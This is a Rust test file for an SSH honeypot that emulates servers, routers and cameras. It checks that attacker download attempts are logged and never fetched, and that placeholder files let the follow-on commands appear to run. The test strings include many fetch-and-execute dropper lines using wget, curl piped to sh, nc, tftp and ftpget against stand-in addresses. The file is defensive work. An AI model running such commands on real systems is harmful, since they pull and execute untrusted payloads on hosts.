//! What a visitor meets who downloads, by the owner's choice. Addresses are told and never fetched.

use super::*;
use crate::Downloads;

fn with(downloads: Downloads, persona: Persona, lines: &str) -> (String, u8, Vec<Detail>) {
    let identity = Arc::new(Identity::draw([7; 32]).with_downloads(downloads));
    let mut now = Timestamp::from_seconds(1_795_582_440);
    let visitor = Visitor {
        user: b"root".to_vec(),
        source: [192, 0, 2, 7].into(),
        destination: None,
        service: "sshd",
    };
    let machine = Machine::new(&identity, persona, visitor, now);
    let mut process = machine.run(lines.as_bytes(), false);
    let mut said = Said::default();
    let mut progress = process.start(now, &mut said);
    let status = loop {
        progress = match progress {
            Progress::Ended(status) => break status,
            Progress::Waiting => process.end_input(now, &mut said),
            Progress::Again(pause) => {
                now = now.plus(i64::try_from(pause.as_micros()).unwrap());
                process.resume(now, &mut said)
            }
        };
    };
    let text = String::from_utf8_lossy(&said.output).into_owned();
    let mut details = said.details;
    details.extend(machine.finish());
    (text + &String::from_utf8_lossy(&said.errors), status, details)
}

fn addresses(details: &[Detail]) -> Vec<String> {
    let address = |detail: &Detail| match detail {
        Detail::Note { name, value } if name.raw() == "url" => Some(value.raw().to_owned()),
        _ => None,
    };
    details.iter().filter_map(address).collect()
}

#[test]
fn a_download_fails_unless_the_owner_chose_otherwise() {
    for persona in Persona::ALL {
        let line = "wget http://198.51.100.7/x.sh; echo $?; ls x.sh";
        let (said, _, details) = with(Downloads::default(), persona, line);
        assert!(said.contains("refused") && said.contains("No such file"), "{persona:?} {said}");
        assert_eq!(addresses(&details), ["http://198.51.100.7/x.sh"]);
    }
}

#[test]
fn a_placeholder_lets_the_next_commands_follow() {
    for (persona, line) in [
        (
            Persona::Server,
            "cd /tmp; wget -q http://198.51.100.7/x.sh && chmod +x x.sh && ./x.sh && echo ran",
        ),
        (
            Persona::Server,
            "cd /tmp; curl -s -O http://198.51.100.7/bot && chmod 777 bot && ./bot && echo ran",
        ),
        (Persona::Server, "curl -s http://198.51.100.7/i | bash && echo ran"),
        (Persona::Server, "wget -qO- http://198.51.100.7/i.sh | sh && echo ran"),
        (
            Persona::Server,
            "cd /tmp; wget http://a.example/k.tar.gz 2>/dev/null; tar xzf k.tar.gz && sh k/install.sh && echo ran",
        ),
        (
            Persona::Server,
            "cd /tmp; python3 -c 'import urllib.request; urllib.request.urlretrieve(\"http://a.example/b\", \"/tmp/b\")'; chmod +x b; ./b && echo ran",
        ),
        (Persona::Server, "cd /tmp; nc 198.51.100.7 4444 > n; chmod +x n; ./n && echo ran"),
        (
            Persona::Server,
            "cd /tmp; busybox wget http://198.51.100.7/y.x86_64 2>/dev/null; chmod +x y.x86_64; ./y.x86_64 && echo ran",
        ),
        (
            Persona::Router,
            "cd /tmp; wget http://198.51.100.7/m.mips; chmod +x m.mips; ./m.mips && echo ran",
        ),
        (
            Persona::MipselRouter,
            "cd /tmp; tftp -g -r m.mpsl 198.51.100.7; chmod +x m.mpsl; ./m.mpsl && echo ran",
        ),
        (
            Persona::ArmRouter,
            "cd /tmp; ftpget -u a -p b 198.51.100.7 m m.arm7; chmod +x m; ./m && echo ran",
        ),
        (
            Persona::Camera,
            "cd /tmp; tftp -l m -r m.arm -g 198.51.100.7; chmod +x m; ./m && echo ran",
        ),
    ] {
        let (said, _, details) = with(Downloads::Placeholder, persona, line);
        assert!(said.contains("ran\n"), "{persona:?} {line}: {said}");
        assert_eq!(addresses(&details).len(), 1, "{line}");
        assert!(
            details.iter().all(|detail| detail.payload().is_none()),
            "{line}: ours is no capture"
        );
    }
}

#[test]
fn a_placeholder_for_another_processor_does_not_run() {
    let line = "cd /tmp; wget -q http://198.51.100.7/m.mips; chmod +x m.mips; ./m.mips";
    let (said, status, _) = with(Downloads::Placeholder, Persona::Server, line);
    assert!(said.contains("Exec format error") && status == 126, "{said}");
}

#[test]
fn the_machine_itself_is_no_host_that_gives_placeholders() {
    let line = "curl -sS http://127.0.0.1:9/x";
    let (said, status, _) = with(Downloads::Placeholder, Persona::Server, line);
    assert!(said.contains("Failed to connect") && status == 7, "{said}");
}

#[test]
fn tools_show_what_they_show_when_a_download_comes() {
    let line = "cd /tmp; wget http://198.51.100.7/x.sh; curl -o y http://198.51.100.7/y.sh; curl -I http://198.51.100.7/; wget http://198.51.100.7/x.sh 2>&1 | tail -2";
    let (said, _, _) = with(Downloads::Placeholder, Persona::Server, line);
    for part in [
        "Connecting to 198.51.100.7:80... ",
        "connected.\nHTTP request sent, awaiting response... 200 OK\nLength: 17 [application/x-sh]\nSaving to: ‘x.sh’\n",
        "‘x.sh’ saved [17/17]",
        "100    17  100    17",
        "HTTP/1.1 200 OK",
        "‘x.sh.1’ saved",
    ] {
        assert!(said.contains(part), "{part}: {said}");
    }
}
